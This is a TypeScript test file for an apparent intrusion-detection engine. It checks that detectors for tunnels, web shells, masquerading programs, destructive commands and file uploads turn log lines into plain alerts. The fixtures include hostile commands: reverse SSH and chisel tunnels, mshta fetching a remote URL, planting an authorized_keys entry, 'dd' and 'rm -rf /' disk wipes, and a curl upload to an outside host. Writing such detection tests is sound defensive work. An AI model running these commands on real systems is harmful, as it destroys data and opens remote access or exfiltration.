import { describe, expect, it } from 'vitest'
import { weightOf } from '../act.ts'
import type { Behaviour } from '../behaviour.ts'
import { PLANT } from '../testing/cases.ts'
import { run, scene, sentence } from '../testing/scene.ts'
import { autostart } from './autostart.ts'
import { connectionProxy } from './connection-proxy.ts'
import { destructiveCommand } from './destructive-command.ts'
import { masquerade } from './masquerade.ts'
import { unexpectedChild } from './unexpected-child.ts'
import { uploadTool } from './upload-tool.ts'
import { webShell } from './web-shell.ts'

/** What is told of one act on a host of the plant at night, without the text in brackets. */
const told = (behaviour: Behaviour, act: string): string => {
  const staged = scene(`${PLANT}\nD6 03:00 ${act} host=SRV-VC`)
  const signal = run(staged, [behaviour]).signals[0]
  return signal ? sentence(staged, signal).split(' (“', 1)[0]! : 'nothing'
}

describe('[SIG-15] a deed is told from its command, path or parent', () => {
  it.each([
    [connectionProxy, 'process_started detail="ssh.exe -N -R 9000:10.2.0.9:3389 user@example.com"', 'somebody opened a tunnel on SRV-VC'],
    [connectionProxy, 'process_started detail="plink -D1080 -batch host"', 'somebody opened a tunnel on SRV-VC'],
    [connectionProxy, 'process_started detail="plink -D 1080 -batch host"', 'somebody opened a tunnel on SRV-VC'],
    [connectionProxy, 'process_started detail="ssh -p 2222 10.2.0.9"', 'nothing'],
    [connectionProxy, 'process_started detail="C:\\Windows\\Temp\\kb12.exe -N -P 443 -R 8531:127.0.0.1:3389 203.0.113.9"', 'somebody opened a tunnel on SRV-VC'],
    [connectionProxy, 'process_started detail="sync.exe -r 443 -d 8080"', 'nothing'],
    [connectionProxy, 'process_started detail="C:\\x\\chisel.exe client 203.0.113.9:443 R:socks"', 'somebody opened a tunnel on SRV-VC'],
    [connectionProxy, 'registry_changed object="HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp" detail=x', 'somebody opened a port proxy on SRV-VC'],
    [unexpectedChild, 'process_started detail="C:\\SQL\\Binn\\sqlservr.exe · cmd.exe /c whoami"', 'somebody ran a command through the database server on SRV-VC'],
    [unexpectedChild, 'process_started detail="C:\\SQL\\Binn\\sqlservr.exe · conhost.exe 0x4"', 'nothing'],
    [unexpectedChild, 'process_started detail="msedge.exe · mshta.exe http://203.0.113.9/a"', 'somebody ran a command from a browser on SRV-VC'],
    [webShell, 'process_started actor=www-data target=root detail="/bin/cp /tmp/k /root/.ssh/authorized_keys"', 'www-data ran a command through the web server on SRV-VC'],
    [webShell, 'process_started actor=kim target=root detail="/bin/ls"', 'nothing'],
    [autostart, 'process_started actor=www-data target=root detail="/bin/cp /tmp/k /root/.ssh/authorized_keys"', 'www-data added a key for logon on SRV-VC'],
    [autostart, 'process_started detail="cat /root/.ssh/authorized_keys"', 'nothing'],
    [masquerade, 'process_started object="C:\\Users\\Public\\svchost.exe"', 'somebody ran a program under the name of another on SRV-VC'],
    [masquerade, 'process_started object="C:\\x\\invoice.pdf.exe"', 'somebody ran a program that looks like a document on SRV-VC'],
    [masquerade, 'file_transferred object="C$\\x\\m.exe" detail="SMB::FILE_RENAME · x\\m.txt"', 'somebody created a program from a text or picture on SRV-VC'],
    [destructiveCommand, 'process_started detail="dd if=/dev/zero of=/dev/sda bs=1M"', 'somebody deleted the content of a disk on SRV-VC'],
    [destructiveCommand, 'process_started detail="rm -rf /"', 'somebody deleted a volume on SRV-VC'],
    [destructiveCommand, 'process_started detail="rm -rf /tmp/build"', 'nothing'],
    [uploadTool, 'process_started detail="curl.exe --upload-file a.zip https://203.0.113.9/"', 'somebody copied a file outside on SRV-VC'],
  ])('%o %s', (behaviour, act, expected) => expect(told(behaviour, act)).toBe(expected))
  it('[SIG-15] counts a new text of a host that does the same every night, and not one of a host that always does another', () => {
    const command = (text: string): string => `process_started host=SRV-VC detail="sqlservr.exe · cmd.exe /c ${text}"`
    const nightly = `D-30..D-1 02:00 ${command('export.bat')}`
    const changing = Array.from({ length: 30 }, (_, n) => `D${n - 30} 02:00 ${command(`run-${String.fromCharCode(97 + (n % 26), 97 + n)}.bat`)}`).join('\n')
    const weight = (before: string): number => Math.max(0, ...run(scene(`${PLANT}\n${before}\nD6 10:00 ${command('whoami')}`), [unexpectedChild]).signals.filter(({ at }) => at > Date.UTC(2026, 5, 2)).map(({ terms }) => weightOf(terms)))
    expect(weight(nightly)).toBeGreaterThanOrEqual(8)
    expect(weight(changing)).toBeLessThan(8)
  })
  it('[SIG-15] a task that runs what no task of any host ran before is told on a host of the plant at night', () => {
    const usual = 'D-20..D-1 09:00 task_created actor=e.lambert host=SRV-VC object="\\Vendor\\Collect" detail="C:\\Vendor\\collect.exe"'
    const told = (command: string): number => run(scene(`${PLANT}\n${usual}\nD6 23:30 task_created actor=e.lambert host=SRV-VC object="\\Vendor\\Collect" detail="${command}"`), [autostart]).signals.filter(({ at }) => at > Date.UTC(2026, 5, 2)).length
    expect(told('C:\\Vendor\\reader.exe -poll')).toBe(1)
    expect(told('C:\\Vendor\\collect.exe')).toBe(0)
  })
  it('weighs by the strongest sort and two for each further one', () => {
    const both = run(scene(`${PLANT}\nD6 10:00 process_started host=SRV-VC detail="rm -rf /"\nD6 10:01 process_started host=SRV-VC detail="cipher /w:c"`), [destructiveCommand]).signals
    const one = run(scene(`${PLANT}\nD6 10:00 process_started host=SRV-VC detail="rm -rf /"`), [destructiveCommand]).signals
    expect(weightOf(both[0]!.terms) - weightOf(one[0]!.terms)).toBe(2)
  })
})
